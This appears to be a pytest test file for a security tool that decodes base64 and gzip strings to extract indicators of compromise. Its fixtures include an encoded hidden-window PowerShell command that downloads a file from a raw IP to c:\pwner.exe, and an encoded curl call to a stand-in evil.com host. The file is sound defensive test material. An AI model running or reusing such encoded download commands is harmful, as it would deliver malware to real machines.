"""What was decoded feeds the search for indicators."""

from __future__ import annotations

import base64
import gzip

import pandas as pd
import pyarrow as pa
import pytest

from flowsleuth.errors import OptionError
from flowsleuth.extract.decoded_iocs import COLUMNS, decoded_iocs
from flowsleuth.extract.ioc.extractor import IoCExtract

DEMO = (
    "powershell.exe -nop -w hidden -encodedcommand SW52b2tlLVdlYlJlc\nXVlc3QgLVVyaSAiaHR0cDovLzM4Ljc1LjEzNy45Ojkw"
    "ODgvc3RhdGljL2VuY3J5cHQubWluLmpzIiAtT3V0RmlsZSAiYzpccHduZXIuZXhlIg=="
)


def test_the_demonstrations_command():
    found = decoded_iocs(DEMO, include_paths=True)
    assert list(found.columns) == list(COLUMNS)
    told = set(zip(found["IoCType"], found["Observable"], strict=True))
    assert {("ipv4", "38.75.137.9"), ("url", "http://38.75.137.9:9088/static/encrypt.min.js")} <= told
    assert ("windows_path", "c:\\pwner.exe") in told
    assert set(found["Offset"]) == {46}


@pytest.mark.parametrize("make", ["pandas", "arrow", "polars"])
def test_columns_of_every_make(make):
    inner = base64.b64encode(gzip.compress(b"curl hxxp://evil[.]com/a")).decode()
    rows = {"cmd": ["ping 192.0.2.1", None, f"x {inner}"], "other": [None, DEMO, "dir"]}
    data = pd.DataFrame(rows, index=["a", "b", "c"])
    if make == "arrow":
        data = pa.table(rows)
    elif make == "polars":
        data = pytest.importorskip("polars").DataFrame(rows)
    found = decoded_iocs(data, ["cmd", "other"], ioc_types=["url"])
    assert type(found) is type(data)
    frame = found if make == "pandas" else found.to_pandas()
    labels = ["c", "b"] if make == "pandas" else [2, 1]
    assert frame[["Observable", "SourceIndex", "Column", "Offset", "DecodePath", "Reference"]].values.tolist() == [
        ["http://evil.com/a", labels[0], "cmd", 2, "base64 > gz > utf-8", "1.1"],
        ["http://38.75.137.9:9088/static/encrypt.min.js", labels[1], "other", 46, "base64 > utf-8", "1"],
    ]


def test_nothing_own_types_and_faults():
    assert len(decoded_iocs("ping 192.0.2.1")) == 0
    assert len(decoded_iocs(pd.DataFrame({"cmd": [None, "dir"]}), "cmd")) == 0
    iocs = IoCExtract()
    iocs.add_ioc_type("ticket", r"\bINC\d{6}\b")
    text = base64.b64encode(b"see INC123456 for more").decode()
    assert decoded_iocs(text, iocs=iocs)["IoCType"].tolist() == ["ticket"]
    with pytest.raises(OptionError, match="no such column"):
        decoded_iocs(pd.DataFrame({"cmd": ["a"]}), "Cmd")
    with pytest.raises(OptionError, match="by its column"):
        decoded_iocs(pd.DataFrame({"cmd": ["a"]}))
